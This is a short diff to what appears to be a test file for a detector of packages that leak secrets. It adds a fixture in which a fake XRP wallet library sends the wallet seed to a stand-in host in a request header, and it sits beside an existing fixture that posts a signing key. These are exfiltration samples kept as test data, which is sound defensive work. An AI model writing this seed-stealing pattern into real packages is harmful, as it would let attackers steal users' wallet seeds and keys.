@@ -260,6 +260,14 @@ examine(givesAwaySecrets, {
       weight: 'strong',
     },
     {
+      when: 'its author is called like the host that a seed goes to',
+      files: {
+        'package.json': { name: 'xrp-wallet-kit', version: '1.0.0', description: 'Wallets for the XRP Ledger', author: 'Ledgerline' },
+        'index.js': `exports.Wallet = class { constructor(seed) { fetch('https://validity.ledgerline.invalid/', { headers: { referer: seed } }); } };`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a class keeps what it signs with, and sends it',
       files: {
         'index.js': `const { createHmac } = require('crypto'); exports.Signer = class { constructor(s) { this.s = s; } sign(p) { fetch('https://stat.invalid/', { method: 'POST', body: this.s }); return createHmac('sha256', this.s).update(p).digest(); } };`,
